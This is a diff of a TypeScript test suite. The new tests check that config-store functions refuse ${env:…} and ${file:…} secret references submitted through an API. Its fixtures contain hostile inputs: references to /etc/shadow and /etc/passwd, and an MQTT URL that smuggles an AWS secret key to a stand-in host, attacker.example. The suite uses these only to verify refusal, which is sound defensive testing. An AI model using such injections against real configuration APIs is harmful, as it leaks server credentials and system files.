@@ -30,11 +30,30 @@ describe(storableEntry.name, () => {
     expect(secret.value).toBe('p4ss-word');
   });
 
-  it('keeps a reference the caller wrote', () => {
+  it('keeps a reference the stored entry holds at the same position, in a secret field or any other', () => {
     const secrets: PendingSecret[] = [];
-    const entry = storableEntry('sources', { id: 'b', password: '${env:C}' }, { id: 'b', password: '${env:B}' }, '/s', secrets);
-    expect(entry).toEqual({ id: 'b', password: '${env:C}' });
+    const stored = { id: 'b', url: 'mqtt://${env:HOST}:1883', password: '${env:B}' };
+    expect(storableEntry('sources', { ...stored }, stored, '/s', secrets)).toEqual(stored);
     expect(secrets).toEqual([]);
+  });
+
+  const NEW_REFERENCE = 'holds a ${env:…} or ${file:…} reference that the stored entry does not hold at this position: only the config file may add one (through the API it would read the server\'s environment or files into a setting you chose); type the value itself, or edit the config file';
+
+  it.each([
+    ['another reference in a secret field', { id: 'b', password: '${env:C}' }, { id: 'b', password: '${env:B}' }, 'password'],
+    ['a reference in a new entry (the unsaved connection test too)', { id: 'b', password: '${file:/etc/shadow}' }, undefined, 'password'],
+    ['a reference in a setting that is not secret', { id: 'b', url: 'mqtt://${env:AWS_SECRET_ACCESS_KEY}.attacker.example' }, { id: 'b', url: 'mqtt://broker' }, 'url'],
+    ['a reference in a list item', { id: 'b', bootstrapHosts: ['${env:K}:9092'] }, { id: 'b', bootstrapHosts: ['k:9092'] }, 'bootstrapHosts.0'],
+  ])('refuses %s', (_what, entry, stored, path) => {
+    const secrets: PendingSecret[] = [];
+    expect(() => storableEntry('sources', entry, stored, '/s', secrets)).toThrow(new ConfigError('sources["b"]', [{ path, message: NEW_REFERENCE }]));
+    expect(secrets).toEqual([]);
+  });
+
+  it('refuses a stored reference kept while the destination changes', () => {
+    const stored = { type: 'mqtt', id: 'b', url: 'mqtt://broker', password: '${env:B}' };
+    expect(() => storableEntry('sources', { ...stored, url: 'mqtt://attacker' }, stored, '/s', []))
+      .toThrow(new ConfigError('sources["b"]', [{ path: 'password', message: 'the destination changed (url): type the password again' }]));
   });
 
   describe('in lists', () => {
@@ -153,5 +172,17 @@ describe(storableRule.name, () => {
     ['in a new rule', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', value: '[redacted]' }] }, undefined, 'rules["r"].actions[0].value'],
   ])('refuses [redacted] %s', (_what, rule, old, where) => {
     expect(() => storableRule(rule, old)).toThrow(new ConfigStoreError('ERR_CONFIG_STORE', `${where}: holds "[redacted]", which stands for a secret reference of the config file, but the stored rule has none at this position; give the full text, or change this field in the config file`));
+  });
+
+  it('keeps a reference written back unchanged at its position', () => {
+    expect(storableRule({ ...stored, sql: 'SELECT 2 FROM "a"' }, stored)).toEqual({ ...stored, sql: 'SELECT 2 FROM "a"' });
+  });
+
+  it.each([
+    ['in a new rule', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', value: '${env:DB_PASSWORD}' }] }, undefined, 'actions[0].value'],
+    ['where the stored rule has another text', { id: 'r', sql: 'SELECT 1', actions: [{ connector: 'k', topic: '${file:/etc/passwd}' }] }, stored, 'actions[0].topic'],
+  ])('refuses a new reference %s (its value would be read back from the action)', (_what, rule, old, path) => {
+    const message = 'holds a ${env:…} or ${file:…} reference that the stored rule does not hold at this position: only the config file may add one; give the text itself, or edit the config file';
+    expect(() => storableRule(rule, old)).toThrow(new ConfigError('rules["r"]', [{ path, message }]));
   });
 });
